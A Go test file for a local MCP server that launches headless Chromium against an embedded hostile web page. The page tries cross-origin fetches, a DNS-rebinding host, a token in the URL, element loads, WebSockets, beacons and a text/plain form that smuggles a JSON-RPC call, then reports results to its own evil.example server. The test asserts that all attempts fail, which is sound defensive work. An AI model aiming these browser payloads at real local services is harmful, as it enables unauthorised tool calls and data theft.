package mcp

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os/exec"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"termic/internal/grant"
)

// evilPage tries everything that a web page can do with a port on loopback, knowing the address and even a right token.
// It reports what it could read, and never says more than one line for each try.
const evilPage = `<!doctype html><meta charset="utf-8"><body><script>
const url = 'http://%[1]s/mcp', rebound = 'http://rebound.example:%[2]s/mcp', token = '%[3]s'
const body = JSON.stringify({jsonrpc: '2.0', id: 1, method: 'tools/call', params: {name: 'task_list', _meta: {
  'io.modelcontextprotocol/protocolVersion': '2026-07-28', 'io.modelcontextprotocol/clientCapabilities': {}}}})
const good = {'Authorization': 'Bearer ' + token, 'X-Termic-Token': token, 'Content-Type': 'application/json', 'MCP-Protocol-Version': '2026-07-28', 'Mcp-Method': 'tools/call', 'Mcp-Name': 'task_list'}
const seen = {}
const tryFetch = async (name, to, init) => {
  try { const r = await fetch(to, init); seen[name] = r.type === 'opaque' ? 'opaque' : 'read ' + r.status + ' ' + (await r.text()) } catch (e) { seen[name] = 'refused' }
}
const element = (name, tag, set) => new Promise((done) => {
  const e = document.createElement(tag)
  e.onload = () => { seen[name] = 'loaded'; done() }
  e.onerror = () => { seen[name] = 'refused'; done() }
  set(e); document.body.append(e); setTimeout(done, 3000)
})
const socket = (name, to) => new Promise((done) => {
  const s = new WebSocket(to)
  s.onopen = () => { seen[name] = 'open'; done() }
  s.onerror = s.onclose = () => { seen[name] ??= 'refused'; done() }
})
const form = (name, to, type, fields) => new Promise((done) => {
  const frame = document.createElement('iframe'), f = document.createElement('form')
  frame.name = name; document.body.append(frame)
  Object.assign(f, {method: 'POST', action: to, target: name, enctype: type})
  for (const [k, v] of Object.entries(fields)) { const i = document.createElement('input'); i.type = 'hidden'; i.name = k; i.value = v; f.append(i) }
  document.body.append(f); f.submit()
  setTimeout(() => { try { seen[name] = 'read ' + frame.contentDocument.body.innerText } catch (e) { seen[name] = 'refused' } done() }, 1500)
})
addEventListener('load', async () => {
  for (const [host, to] of [['own', url], ['rebound', rebound]]) {
    await tryFetch(host + ' plain', to, {})
    await tryFetch(host + ' simple post', to, {method: 'POST', body, mode: 'no-cors'})
    await tryFetch(host + ' simple post with credentials', to, {method: 'POST', body, mode: 'no-cors', credentials: 'include'})
    await tryFetch(host + ' simple notification', to, {method: 'POST', body: '{"jsonrpc":"2.0","method":"notifications/initialized"}', mode: 'no-cors'})
    await tryFetch(host + ' everything right', to, {method: 'POST', body, headers: good})
    await tryFetch(host + ' token in the query', to + '?token=' + token, {method: 'POST', body, mode: 'no-cors'})
    await element(host + ' image', 'img', (e) => { e.src = to })
    await element(host + ' script', 'script', (e) => { e.src = to })
    await element(host + ' style', 'link', (e) => { e.rel = 'stylesheet'; e.href = to })
    await socket(host + ' socket', to.replace('http', 'ws'))
    await form(host + ' form', to, 'application/x-www-form-urlencoded', {a: body})
    await form(host + ' text form', to, 'text/plain', {[body.slice(0, -1) + ',"x":"']: '"}'})
    navigator.sendBeacon(to, body)
    seen[host + ' beacon'] = 'refused'
  }
  await fetch('/report', {method: 'POST', body: JSON.stringify(seen)})
})
</script>`

// TestWebPages lets a real browser try: nothing is called, nothing can be read, and no request of a page even comes to
// its token.
func TestWebPages(t *testing.T) {
	browser := ""
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if p, err := exec.LookPath(name); err == nil {
			browser = p
			break
		}
	}
	if browser == "" {
		t.Skip("NOT TESTED: what a web page can do, for want of a Chromium")
	}
	var calls atomic.Int32
	r := newRig(t, backendFunc(func(context.Context, grant.Caller, string, json.RawMessage) (json.RawMessage, error) {
		calls.Add(1)
		return json.RawMessage(`{"secret":1}`), nil
	}), Limits{})
	_, port, err := net.SplitHostPort(r.host)
	check(t, err)
	report := make(chan map[string]string, 1)
	evil := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		if q.URL.Path != "/report" {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprintf(w, evilPage, r.host, port, r.full.Reveal())
			return
		}
		var seen map[string]string
		if json.NewDecoder(q.Body).Decode(&seen) == nil {
			report <- seen
		}
	})}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	check(t, err)
	served := make(chan error, 1)
	go func() { served <- evil.Serve(l) }()
	defer func() { check(t, evil.Close()); <-served }()

	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	profile := t.TempDir()
	cmd := exec.CommandContext(ctx, browser, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--no-proxy-server",
		"--user-data-dir="+profile, "--host-resolver-rules=MAP *.example 127.0.0.1", "http://"+strings.Replace(l.Addr().String(), "127.0.0.1", "evil.example", 1)+"/")
	cmd.Env = append(cmd.Environ(), "HOME="+profile)
	cmd.Stdout, cmd.Stderr = io.Discard, io.Discard
	check(t, cmd.Start())
	defer func() {
		_ = cmd.Process.Kill() // it has no more to say
		_ = cmd.Wait()
	}()
	var seen map[string]string
	select {
	case seen = <-report:
	case <-ctx.Done():
		t.Fatal("the page did not report")
	}
	if len(seen) != 26 {
		t.Errorf("%d tries were reported: %v", len(seen), seen)
	}
	for name, what := range seen {
		if what != "refused" && what != "opaque" { // an opaque answer is one that the page cannot look into
			t.Errorf("%s: %s", name, what)
		}
	}
	if n := calls.Load(); n != 0 {
		t.Errorf("%d calls were made", n)
	}
	if n := r.Failures(); n != 0 {
		t.Errorf("%d requests of a page came as far as their token", n)
	}
	check(t, r.good())
}
